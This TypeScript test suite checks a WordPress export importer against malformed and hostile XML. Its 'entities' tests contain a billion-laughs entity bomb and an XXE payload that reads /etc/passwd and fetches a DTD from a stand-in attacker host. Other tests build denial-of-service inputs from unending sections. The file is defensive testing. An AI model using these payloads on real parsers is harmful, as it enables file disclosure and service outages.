import { describe, expect, it } from 'vitest';
import { readWordpress } from '../../../api/imports/formats/wordpress.ts';
import { readImport } from '../../support/import-reading.ts';
import { item, wxr } from '../../support/wordpress-exports.ts';

const titles = (reading: { posts: { title: string }[] }) => reading.posts.map((post) => post.title);

describe('a broken export', () => {
  it('keeps the post in which a tag is not closed', async () => {
    const two = item(2, 'Two', { extra: '<wp:broken><b>no end</wp:broken>' });
    const reading = await readImport(readWordpress, wxr(item(1, 'One'), two, item(3, 'Three')));
    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
    expect(reading.posts[1]?.content).toBe('<p>Text</p>');
    expect(reading.problems).toEqual([]);
  });

  it.each([1, 2, 3])('whose item %i is not closed keeps all of them', async (open) => {
    const items = ['One', 'Two', 'Three'].map((title, index) => item(index + 1, title));
    items[open - 1] = items[open - 1]?.replace('</item>', '') ?? '';
    const reading = await readImport(readWordpress, wxr(...items));
    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
    expect(reading.problems).toEqual([]);
  });

  it('whose CDATA section runs into the next post loses the post where it began', async () => {
    const reading = await readImport(
      readWordpress,
      wxr(
        item(1, 'One'),
        item(2, 'Two').replace(']]></content:encoded>', '</content:encoded>'),
        item(3, 'Three'),
      ),
    );
    expect(titles(reading)).toEqual(['One', 'Three']);
    expect(reading.problems).toHaveLength(1);
    expect(reading.problems[0]).toContain('of line 7, “Two”, is left out');
  });

  it.each([
    ['in a tag', 40],
    ['in a text', 130],
    ['right after a post', 0],
  ])('that is cut off %s keeps what came before', async (_where, back) => {
    const whole = wxr(item(1, 'One'), item(2, 'Two'));
    const end = whole.lastIndexOf('</item>') + (back === 0 ? 7 : -back);
    const reading = await readImport(readWordpress, whole.slice(0, end));
    expect(titles(reading)).toEqual(back === 0 ? ['One', 'Two'] : ['One']);
    expect(reading.problems).toHaveLength(1);
    expect(reading.problems[0]).toMatch(/^Line 7: the file ends .+ to have the rest\.$/);
  });

  it('reads on where a broken tag stands between posts', async () => {
    const reading = await readImport(readWordpress, wxr(item(1, 'One'), '<wp:tag <b', item(2, 'Two')));
    expect(titles(reading)).toEqual(['One', 'Two']);
    expect(reading.problems).toEqual([]);
  });

  it('tells no more than 50 places one by one', async () => {
    const items = Array.from({ length: 60 }, (_, index) =>
      item(index, `Post ${index}`).replace(']]></content:encoded>', '</content:encoded>'),
    );
    const reading = await readImport(readWordpress, wxr(...items, item(99, 'Last')));
    expect(titles(reading)).toEqual(['Last']);
    expect(reading.problems).toHaveLength(51);
    expect(reading.problems[50]).toBe('10 more places could not be read.');
  });

  it('with elements without end, or nested without end, loses that post', async () => {
    const reading = await readImport(
      readWordpress,
      wxr(
        item(1, 'One', { extra: '<a>'.repeat(500_000) + '</a>'.repeat(500_000) }),
        item(2, 'Two', { extra: '<a/>'.repeat(500_000) }),
        item(3, 'Three'),
      ),
    );
    expect(titles(reading)).toEqual(['Three']);
    expect(reading.problems).toEqual([
      'Line 6: there are elements nested more than 1,000 deep in one. The article of line 6, “One”, is left out; reading went on with the next one.',
      'Line 7: there are more than 500,000 elements in one. The article of line 7, “Two”, is left out; reading went on with the next one.',
    ]);
  });

  it('with one post over the limit loses that post, with the limit named', async () => {
    const reading = await readImport(
      readWordpress,
      wxr(item(1, 'One'), item(2, 'Giant', { content: 'x'.repeat(21 * 1024 * 1024) }), item(3, 'Three')),
    );
    expect(titles(reading)).toEqual(['One', 'Three']);
    expect(reading.problems).toHaveLength(1);
    expect(reading.problems[0]).toContain('more than 20 MB belong together');
    expect(reading.problems[0]).toContain('“Giant”');
  });
});

describe('what exporters write although XML forbids it', () => {
  it('stray ampersands, signs and control characters stay or go as they are meant', async () => {
    const { posts, problems } = await readImport(
      readWordpress,
      wxr(
        item(1, 'x', {
          title: '<title>Fish & chips &nbsp;&amp;amp; 1 < 2 &copy; \u0003&#8211; &#x1F600; &#11;end</title>',
          content: 'a\u0008b\u000bc',
          link: 'https://blog.example/?a=1&b=2',
        }),
      ),
    );
    expect(posts[0]?.title).toBe('Fish & chips & 1 < 2 © – 😀 end');
    expect(posts[0]?.content).toBe('abc');
    expect(posts[0]?.url).toBe('https://blog.example/?a=1&b=2');
    expect(problems).toEqual([]);
  });

  it('a CDATA section that was split at its own end is one text again', async () => {
    const { posts } = await readImport(
      readWordpress,
      wxr(item(1, 'x', { content: 'if (a[b[0]]]]><![CDATA[> c) &amp;' })),
    );
    expect(posts[0]?.content).toBe('if (a[b[0]]> c) &amp;');
  });

  it.each(['<pre>a[b[0]]></pre><p>more]]> text</p>', 'x ]]> y'])(
    'a CDATA section that was not split, as old exporters left it, is one text too: %s',
    async (content) => {
      const { posts, problems } = await readImport(
        readWordpress,
        wxr(item(1, 'x', { content }), item(2, 'y')),
      );
      expect(posts.map((post) => post.content)).toEqual([content, '<p>Text</p>']);
      expect(problems).toEqual([]);
    },
  );

  it('warnings of PHP before the root and after it are passed over', async () => {
    const { posts, problems } = await readImport(
      readWordpress,
      `\n<br />\n<b>Warning</b>: Cannot modify header <i>x</i>\n${wxr(item(1, 'One'))}\n<p>done & dusted`,
    );
    expect(posts.map((post) => post.title)).toEqual(['One']);
    expect(problems).toEqual([]);
  });

  it('another version in the namespace, and no namespace at all, are read alike', async () => {
    const plain = wxr(item(1, 'One'));
    const variants = [
      plain.replaceAll('export/1.2/', 'export/1.0/'),
      plain.replaceAll('export/1.2/', 'export/1.1/'),
      plain.replace(/ xmlns:[a-z]+="[^"]*"/g, ''),
    ];
    for (const variant of variants) {
      const { posts } = await readImport(readWordpress, variant);
      expect(posts.map((post) => [post.source_id, post.status, post.content])).toEqual([
        ['1', 'published', '<p>Text</p>'],
      ]);
    }
  });
});

describe('entities', () => {
  const bomb = `<!DOCTYPE rss [\n<!ENTITY lol "lol">\n${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`).join('\n')}\n]>`;

  it('a bomb of them stays as it is written', async () => {
    const { posts, problems } = await readImport(
      readWordpress,
      wxr(item(1, 'x', { title: '<title>Big &lol9; bang</title>' })).replace('<rss', `${bomb}\n<rss`),
    );
    expect(posts[0]?.title).toBe('Big &lol9; bang');
    expect(problems).toEqual([]);
  });

  it('an external one reads no file', async () => {
    const { posts, problems } = await readImport(
      readWordpress,
      wxr(item(1, 'x', { title: '<title>Users: &xxe;</title>' })).replace(
        '<rss',
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<rss',
      ),
    );
    expect(posts[0]?.title).toBe('Users: &xxe;');
    expect(problems).toEqual([]);
  });
});

describe('a file that was made to do harm', () => {
  it.each([
    ['sections that never end', '<item><x><![CDATA[aaaa</item>\n'],
    ['comments that never end', '<item><!-- aaa</item>\n'],
  ])('by %s is given up after 1,000 places', async (_what, part) => {
    const { posts, problems } = await readImport(readWordpress, wxr(item(1, 'One'), part.repeat(900_000)));
    expect(posts.map((post) => post.title)).toEqual(['One']);
    expect(problems).toHaveLength(51);
    expect(problems[50]).toBe('950 more places could not be read, and reading stopped there.');
  });
});
